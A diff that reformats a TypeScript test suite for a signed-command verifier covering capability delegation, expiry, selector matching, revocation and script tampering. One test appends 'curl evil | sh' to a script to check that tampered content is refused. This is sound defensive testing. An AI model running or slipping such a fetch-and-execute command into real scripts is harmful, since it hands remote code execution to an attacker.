@@ -4,7 +4,15 @@ import { capabilityId, signCapability } from './capability.js';
 import { generateEd25519, signEd25519, type Ed25519KeyPair } from './ed25519.js';
 import { FleetError } from './errors.js';
 import type { Ability, Capability, CommandPayload, CommandSpec, ScriptSignature, SignedCommand } from './remote-ops.js';
-import { commandAbilities, scriptSha256, signCommand, signScript, verifyScriptSignature, verifySignedCommand, type SignedCommandContext } from './signed-command.js';
+import {
+  commandAbilities,
+  scriptSha256,
+  signCommand,
+  signScript,
+  verifyScriptSignature,
+  verifySignedCommand,
+  type SignedCommandContext,
+} from './signed-command.js';
 
 const NOW = Date.parse('2026-03-01T12:00:00Z');
 const DAY = 86_400_000;
@@ -18,7 +26,10 @@ const SCRIPT_SHA = scriptSha256(SCRIPT);
 
 let counter = 0;
 function cap(by: Ed25519KeyPair, to: Ed25519KeyPair, can: Ability[] = ['exec/run'], on = 'region=eu', parent?: Capability): Capability {
-  return signCapability({ v: 1, iss: by.did, aud: to.did, can, on, nbf: NOW - DAY, exp: NOW + DAY, nonce: `cap-nonce-${++counter}`, prf: parent ? [parent] : [] }, by.privateKeyPem);
+  return signCapability(
+    { v: 1, iss: by.did, aud: to.did, can, on, nbf: NOW - DAY, exp: NOW + DAY, nonce: `cap-nonce-${++counter}`, prf: parent ? [parent] : [] },
+    by.privateKeyPem,
+  );
 }
 
 function payload(invoker: Ed25519KeyPair, over: Partial<CommandPayload> = {}): CommandPayload {
@@ -65,18 +76,27 @@ describe('verifySignedCommand: accepted', () => {
   it('accepts an operator at the end of a delegation chain, for a container operation', () => {
     const a = cap(root, alice, ['*'], '*');
     const b = cap(alice, bob, ['container/restart'], 'pool=inference', a);
-    const cmd = signCommand(payload(bob, { ability: 'container/restart', target: 'pool=inference', command: { kind: 'container', op: 'restart', container: 'vllm' }, capability: b }), bob.privateKeyPem);
+    const cmd = signCommand(
+      payload(bob, { ability: 'container/restart', target: 'pool=inference', command: { kind: 'container', op: 'restart', container: 'vllm' }, capability: b }),
+      bob.privateKeyPem,
+    );
     expect(reasonOf(cmd)).toBe('ok');
   });
 
   it('accepts a library script signed by a root, with matching content', () => {
-    const cmd = signCommand(payload(alice, { ability: 'exec/script', command: scriptSpec, capability: cap(root, alice, ['exec/script']) }), alice.privateKeyPem);
+    const cmd = signCommand(
+      payload(alice, { ability: 'exec/script', command: scriptSpec, capability: cap(root, alice, ['exec/script']) }),
+      alice.privateKeyPem,
+    );
     expect(reasonOf(cmd, { scriptContent: SCRIPT, scriptSignature: rootScriptSig })).toBe('ok');
   });
 
   it('accepts a library script signed by the invoker who holds exec/script', () => {
     const own = signScript('drain', 2, SCRIPT_SHA, alice.privateKeyPem);
-    const cmd = signCommand(payload(alice, { ability: 'exec/script', command: scriptSpec, capability: cap(root, alice, ['exec/script']) }), alice.privateKeyPem);
+    const cmd = signCommand(
+      payload(alice, { ability: 'exec/script', command: scriptSpec, capability: cap(root, alice, ['exec/script']) }),
+      alice.privateKeyPem,
+    );
     expect(reasonOf(cmd, { scriptContent: SCRIPT, scriptSignature: own })).toBe('ok');
   });
 
@@ -131,7 +151,10 @@ describe('verifySignedCommand: refusals', () => {
   });
 
   it('expired: the capability expired', () => {
-    const old = signCapability({ v: 1, iss: root.did, aud: alice.did, can: ['exec/run'], on: '*', nbf: NOW - 2 * DAY, exp: NOW - DAY, nonce: 'expired-cap-1', prf: [] }, root.privateKeyPem);
+    const old = signCapability(
+      { v: 1, iss: root.did, aud: alice.did, can: ['exec/run'], on: '*', nbf: NOW - 2 * DAY, exp: NOW - DAY, nonce: 'expired-cap-1', prf: [] },
+      root.privateKeyPem,
+    );
     const v = verifySignedCommand(signCommand(payload(alice, { capability: old }), alice.privateKeyPem), ctx());
     expect(v).toMatchObject({ ok: false, reason: 'expired' });
     expect(!v.ok && v.message).toContain('capability expired at 2026-02-28T12:00:00.000Z');
@@ -145,7 +168,10 @@ describe('verifySignedCommand: refusals', () => {
   });
 
   it('not_yet_valid: the capability starts later', () => {
-    const later = signCapability({ v: 1, iss: root.did, aud: alice.did, can: ['exec/run'], on: '*', nbf: NOW + DAY, exp: NOW + 2 * DAY, nonce: 'later-cap-1', prf: [] }, root.privateKeyPem);
+    const later = signCapability(
+      { v: 1, iss: root.did, aud: alice.did, can: ['exec/run'], on: '*', nbf: NOW + DAY, exp: NOW + 2 * DAY, nonce: 'later-cap-1', prf: [] },
+      root.privateKeyPem,
+    );
     expect(reasonOf(signCommand(payload(alice, { capability: later }), alice.privateKeyPem))).toBe('not_yet_valid');
   });
 
@@ -160,7 +186,9 @@ describe('verifySignedCommand: refusals', () => {
   });
 
   it("selector_mismatch: the capability's selector does not match this host", () => {
-    expect(reasonOf(signCommand(payload(alice, { target: '*', capability: cap(root, alice, ['exec/run'], 'region=us') }), alice.privateKeyPem))).toBe('selector_mismatch');
+    expect(reasonOf(signCommand(payload(alice, { target: '*', capability: cap(root, alice, ['exec/run'], 'region=us') }), alice.privateKeyPem))).toBe(
+      'selector_mismatch',
+    );
   });
 
   it("selector_mismatch: the command's target does not match this host", () => {
@@ -210,7 +238,7 @@ describe('verifySignedCommand: refusals', () => {
 
   it('script_tampered: content that does not hash to what the operator signed, or no content', () => {
     const cmd = signCommand(payload(root, { ability: 'exec/script', command: scriptSpec }), root.privateKeyPem);
-    const v = verifySignedCommand(cmd, ctx({ scriptContent: SCRIPT + 'curl evil | sh\n', scriptSignature: rootScriptSig }));
+    const v = verifySignedCommand(cmd, ctx({ scriptContent: `${SCRIPT}curl evil | sh\n`, scriptSignature: rootScriptSig }));
     expect(v).toMatchObject({ ok: false, reason: 'script_tampered' });
     expect(reasonOf(cmd, { scriptContent: null, scriptSignature: rootScriptSig })).toBe('script_tampered');
   });
@@ -233,7 +261,10 @@ describe('verifySignedCommand: refusals', () => {
   });
 
   it('revoked: the script signer is revoked', () => {
-    const cmd = signCommand(payload(alice, { ability: 'exec/script', command: scriptSpec, capability: cap(root, alice, ['exec/script']) }), alice.privateKeyPem);
+    const cmd = signCommand(
+      payload(alice, { ability: 'exec/script', command: scriptSpec, capability: cap(root, alice, ['exec/script']) }),
+      alice.privateKeyPem,
+    );
     const rootRevokedForScripts = (capId: string, did: string) => capId === '' && did === root.did;
     expect(reasonOf(cmd, { scriptContent: SCRIPT, scriptSignature: rootScriptSig, isRevoked: rootRevokedForScripts })).toBe('revoked');
   });
